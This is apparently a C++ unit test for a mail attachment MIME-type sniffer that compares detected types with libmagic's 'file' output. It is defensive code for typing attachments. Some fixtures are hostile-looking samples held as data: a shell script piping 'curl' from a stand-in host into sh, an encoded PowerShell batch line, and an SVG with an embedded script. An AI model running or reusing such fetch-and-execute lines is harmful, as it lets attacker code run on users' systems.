// Attachment typing (detail::SniffMimeType): the type a handler sees next to the declared one. Each
// input's type is stated from its format and, where the `file` command is installed, checked
// against what `file --mime-type` says for the same bytes with the same exclusions (no look inside
// compressed data, no ELF section walk). Text with no format of its own takes a fast path that
// skips libmagic's soft tests; docs/mail.md lists what that changes.
#include "detail/file_type.hpp"

#include <array>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include <gtest/gtest.h>
#include <unistd.h>

namespace hikeshi::intake::mail::detail {
namespace {

namespace fs = std::filesystem;
using namespace std::string_literals;

// What `file` says for `bytes`, or nullopt when it is not installed. `options`: extra flags.
std::optional<std::string> FileSays(std::string_view bytes, std::string_view options = "-e compress -e elf") {
  if (!fs::exists("/usr/bin/file")) return std::nullopt;
  const fs::path path = fs::temp_directory_path() / ("hikeshi_file_type_" + std::to_string(::getpid()));
  {
    std::ofstream out(path, std::ios::binary);
    out.write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
  }
  const std::string command = "/usr/bin/file --mime-type -b " + std::string(options) + " '" + path.string() + "'";
  std::FILE* pipe = ::popen(command.c_str(), "r");
  std::string said;
  if (pipe != nullptr) {
    std::array<char, 256> buffer{};
    while (std::fgets(buffer.data(), buffer.size(), pipe) != nullptr) said += buffer.data();
    ::pclose(pipe);
  }
  fs::remove(path);
  while (!said.empty() && (said.back() == '\n' || said.back() == '\r')) said.pop_back();
  return said;
}

struct Case {
  const char* name;
  std::string bytes;
  const char* type;  // from the format
};

std::string FirewallLog() {
  std::string log;
  for (int i = 0; log.size() < 3000; ++i) {
    log += "2026-11-27T08:10:" + std::to_string(10 + i % 50) +
           "+09:00 fw01 DROP IN=eth0 SRC=198.51.100.7 DST=203.0.113." + std::to_string(1 + i) +
           " PROTO=TCP SPT=" + std::to_string(40000 + i) + " DPT=445\n";
  }
  return log;
}

std::string Zeros(std::size_t n) { return std::string(n, '\0'); }

// A minimal 64-bit little-endian ELF executable header (e_type EXEC, x86-64).
std::string ElfExecutable() {
  std::string elf =
      "\x7f"
      "ELF\x02\x01\x01"s +
      Zeros(9);
  elf += "\x02\x00\x3e\x00\x01\x00\x00\x00"s;  // e_type, e_machine, e_version
  elf += Zeros(8 * 3);                         // e_entry, e_phoff, e_shoff
  elf += "\x00\x00\x00\x00\x40\x00\x38\x00\x00\x00\x40\x00\x00\x00\x00\x00"s;
  return elf + Zeros(64);
}

// A DOS stub pointing at a PE header for i386.
std::string PortableExecutable() {
  std::string pe = "MZ"s + Zeros(0x3a) + "\x80\x00\x00\x00"s + Zeros(0x40);
  pe += "PE\x00\x00\x4c\x01\x01\x00"s + Zeros(12) + "\xe0\x00\x02\x01"s;  // machine, sections, opt. size
  pe += "\x0b\x01"s + Zeros(200);                                         // PE32 optional header
  return pe;
}

// A zip with one stored file "a.txt" holding "hello\n".
std::string Zip() {
  std::string zip =
      "PK\x03\x04\x0a\x00\x00\x00\x00\x00\x00\x00\x00\x00\x20\x30\x3a\x36\x06\x00\x00\x00\x06\x00"
      "\x00\x00\x05\x00\x00\x00"
      "a.txthello\n"s;
  zip +=
      "PK\x01\x02\x14\x03\x0a\x00\x00\x00\x00\x00\x00\x00\x00\x00\x20\x30\x3a\x36\x06\x00\x00\x00\x06\x00"
      "\x00\x00\x05\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xa4\x81\x00\x00\x00\x00"
      "a.txt"s;
  zip += "PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00\x33\x00\x00\x00\x29\x00\x00\x00\x00\x00"s;
  return zip;
}

// gzip (RFC 1952) of a zip file: a decompressing sniffer would see the zip inside.
std::string GzipOfZip() {
  // Stored (uncompressed) deflate block: BFINAL=1, BTYPE=00, then LEN and NLEN.
  const std::string inner = Zip();
  std::string gz = "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"s;
  const auto len = static_cast<unsigned>(inner.size());
  gz += "\x01"s;
  gz += static_cast<char>(len & 0xff);
  gz += static_cast<char>(len >> 8);
  gz += static_cast<char>(~len & 0xff);
  gz += static_cast<char>((~len >> 8) & 0xff);
  gz += inner;
  return gz + Zeros(8);  // CRC and size are not checked by a type sniffer
}

std::vector<Case> Cases() {
  return {
      // Plain text: the fast path; libmagic's builtin tests still tell JSON and CSV.
      {"firewall log", FirewallLog(), "text/plain"},
      {"UTF-8 Japanese", "不正アクセスの報告です。\nログを添付します。\n", "text/plain"},
      {"ISO-2022-JP", "\x1b$B%m%0\x1b(B attached\r\n", "text/plain"},
      {"CRLF text with a BOM", "\xef\xbb\xbfHello,\r\nsee the log.\r\n", "text/plain"},
      {"JSON", "{\"ip\": \"198.51.100.7\", \"ports\": [22, 445]}\n", "application/json"},
      {"JSON array", "[{\"ip\": \"198.51.100.7\"}, {\"ip\": \"198.51.100.8\"}]", "application/json"},
      {"CSV", "ip,port,seen\n198.51.100.7,22,2026-11-27\n198.51.100.8,445,2026-11-27\n198.51.100.9,23,2026\n",
       "text/csv"},
      // Text formats that soft magic recognises from their first bytes: the full run.
      {"HTML", "<!DOCTYPE html>\n<html><body><a href=\"http://bad.example/\">x</a></body></html>\n", "text/html"},
      {"HTML after a BOM and blank lines", "\xef\xbb\xbf\n  \n<html><body>x</body></html>\n", "text/html"},
      {"XML", "<?xml version=\"1.0\"?>\n<report/>\n", "text/xml"},
      {"SVG", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>x()</script></svg>\n", "image/svg+xml"},
      {"shell script", "#!/bin/sh\ncurl http://bad.example/x | sh\n", "text/x-shellscript"},
      {"Python script", "#!/usr/bin/env python3\nimport os\n", "text/x-script.python"},
      {"batch file", "@echo off\r\npowershell -enc AAAA\r\n", "text/x-msdos-batch"},
      {"PDF without binary bytes", "%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n", "application/pdf"},
      {"PostScript", "%!PS-Adobe-3.0\n%%EOF\n", "application/postscript"},
      {"RTF", "{\\rtf1\\ansi hello}\n", "text/rtf"},
      {"forwarded message", "Received: from mx.bad.example\r\nFrom: a@bad.example\r\nSubject: invoice\r\n\r\nbody\r\n",
       "message/rfc822"},
      {"vCard", "BEGIN:VCARD\nVERSION:3.0\nFN:x\nEND:VCARD\n", "text/vcard"},
      {"PGP message", "-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n", nullptr},
      // Not plainly text: the full run, as before.
      {"Latin-1 text", "caf\xe9 ouvert, na\xefve\n", "text/plain"},
      {"text with a control byte", "status\x01ok\n", nullptr},
      {"PNG", "\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"s + Zeros(8),
       "image/png"},
      {"PDF", "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "application/pdf"},
      {"zip", Zip(), "application/zip"},
      {"gzip holding a zip", GzipOfZip(), "application/gzip"},
      {"ELF executable", ElfExecutable(), "application/x-executable"},
      {"PE executable", PortableExecutable(), nullptr},
  };
}

TEST(SniffMimeType, GivesTheTypeOfTheFormat) {
  for (const Case& c : Cases()) {
    SCOPED_TRACE(c.name);
    const std::string sniffed = SniffMimeType(c.bytes);
    if (c.type != nullptr) {
      EXPECT_EQ(sniffed, c.type);
    }
    if (const std::optional<std::string> file = FileSays(c.bytes)) {
      EXPECT_EQ(sniffed, *file);
    }
  }
}

TEST(SniffMimeType, DoesNotLookInsideCompressedData) {
  const std::string gzip = GzipOfZip();
  EXPECT_EQ(SniffMimeType(gzip), "application/gzip");
  // What a decompressing sniffer would say instead: proves the input holds something to find.
  if (const std::optional<std::string> file = FileSays(gzip, "-z")) {
    EXPECT_EQ(*file, "application/zip");
  }
}

TEST(SniffMimeType, EmptyContent) { EXPECT_EQ(SniffMimeType(""), "application/x-empty"); }

// The documented cost of the fast path: program source that starts like plain text is typed
// text/plain, where libmagic's soft tests would have guessed a language.
TEST(SniffMimeType, SourceCodeThatStartsLikeTextIsPlainText) {
  const std::string c_source =
      "/* report tool */\nint main(void) {\n  return 0;\n}\nstatic int f(int x) { return x; }\n";
  EXPECT_EQ(SniffMimeType(c_source), "text/plain");
  if (const std::optional<std::string> file = FileSays(c_source)) {
    EXPECT_EQ(*file, "text/x-c");
  }
}

}  // namespace
}  // namespace hikeshi::intake::mail::detail
